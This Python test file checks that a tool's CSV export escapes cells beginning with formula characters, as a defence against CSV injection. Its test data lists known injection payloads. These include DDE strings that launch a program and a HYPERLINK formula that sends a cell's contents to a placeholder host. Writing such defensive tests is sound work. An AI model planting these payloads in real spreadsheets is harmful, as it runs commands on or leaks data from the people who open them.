"""CSV for spreadsheets is safe to open: no cell runs as a formula (OWASP CSV injection).

The command runs as a subprocess, as a user runs it, on a caseload whose customer numbers are
hostile; the escaping function is checked for every leading character on its own.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from kontaktsync.sync.report.spreadsheet import FORMULA_START, SafeCsvWriter, safe_cell

from tests.builders import case_rows, write_cases
from tests.cli import kontaktsync_cli

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("first", FORMULA_START)
def test_every_formula_character_at_the_start_is_escaped(first: str) -> None:
    value = first + "1+cmd|' /C calc'!A0"
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("first", FORMULA_START)
def test_the_same_character_inside_a_cell_changes_nothing(first: str) -> None:
    value = f"100{first}200"
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    ["-5", "-1.5", "+3", "+49", "1e-3", "-2.5E+4", "-.5", "0", "2026-11-22", "100234", "", "true"],
)
def test_numbers_dates_and_plain_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    ["+49 30 1234567", "-1,5", "--5", "-5-5", "-inf", "+nan", "-1_000", "- 5", "-5 ", "=5", "@5"],
)
def test_what_only_looks_like_a_number_is_escaped(value: str) -> None:
    assert safe_cell(value) == "'" + value


def test_none_is_an_empty_cell_and_other_types_are_text() -> None:
    assert safe_cell(None) == "" and safe_cell(-5) == "-5" and safe_cell(False) == "False"


def test_the_writer_escapes_every_cell_and_quotes_as_csv_does() -> None:
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerow(["=A1", "a,b", "-5", None])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=A1", "a,b", "-5", ""]]


def test_plan_csv_escapes_hostile_customer_numbers(tmp_path: Path) -> None:
    rows = case_rows(len(HOSTILE) + 1)
    for row, hostile in zip(rows, HOSTILE, strict=False):
        row["case_id"] = hostile
    cases = write_cases(tmp_path / "cases.csv", rows)
    r = kontaktsync_cli(
        "plan", "--policy", "coburg-2016", "--cases", str(cases), "--as-of", "2026-11-22", "--format", "csv"
    )
    assert r.returncode == 0, r.stderr
    table = list(csv.reader(io.StringIO(r.stdout)))
    header, body = table[0], table[1:]
    assert header[0] == "case_id"
    ids = [line[0] for line in body]
    # Every hostile id arrives, escaped once; the plain one is untouched.
    for hostile in HOSTILE:
        read = hostile.strip()  # the reader trims blanks around a cell, a tab or CR included
        assert ("'" + read) in ids, (hostile, ids, r.stderr)
        assert read not in ids
    assert rows[-1]["case_id"] in ids
    for line in body:
        for cell in line:
            assert not cell.startswith(FORMULA_START), (cell, line)
        assert line[header.index("due")][:2] == "20"  # dates are not touched
